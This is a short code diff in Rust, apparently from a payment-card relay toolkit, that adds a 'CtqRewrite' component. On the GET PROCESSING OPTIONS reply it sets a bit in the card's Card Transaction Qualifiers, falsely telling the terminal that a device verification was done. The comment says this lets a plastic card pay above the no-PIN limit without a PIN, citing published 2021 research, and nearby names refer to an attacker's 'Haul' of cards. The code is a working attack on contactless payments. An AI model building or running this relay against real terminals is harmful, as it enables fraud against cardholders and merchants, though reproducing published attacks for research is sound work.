@@ -245,6 +245,34 @@ impl CardTap for PinWedge {
     }
 }
 
+/// A relay that rewrites the card's Card Transaction Qualifiers (9F6C) on
+/// the way to the terminal to say "consumer device CVM performed", so a
+/// plastic card pays above the no-PIN limit without a PIN (Basin, Sasse,
+/// Toro-Pozo, 2021). The cryptogram does not cover the CTQ.
+#[derive(Debug, Default)]
+pub struct CtqRewrite;
+
+impl CardTap for CtqRewrite {
+    fn name(&self) -> &'static str {
+        "ctq_rewrite"
+    }
+
+    fn transmit(&mut self, capdu: &[u8], card: &mut dyn CardChannel) -> Vec<u8> {
+        let mut rapdu = card.transmit(capdu);
+        if capdu.get(1) == Some(&ins::GET_PROCESSING_OPTIONS) && rapdu.len() > 2 {
+            let body = &rapdu[..rapdu.len() - 2];
+            // Where the CTQ's second byte sits in the answer, if it is there.
+            let at = tlv::find_deep(body, 0x9F6C)
+                .filter(|v| v.len() >= 2)
+                .map(|v| (v.as_ptr() as usize).wrapping_sub(body.as_ptr() as usize) + 1);
+            if let Some(b) = at.and_then(|i| rapdu.get_mut(i)) {
+                *b |= 0x80;
+            }
+        }
+        rapdu
+    }
+}
+
 /// One card as the attacker holds it.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct Haul {
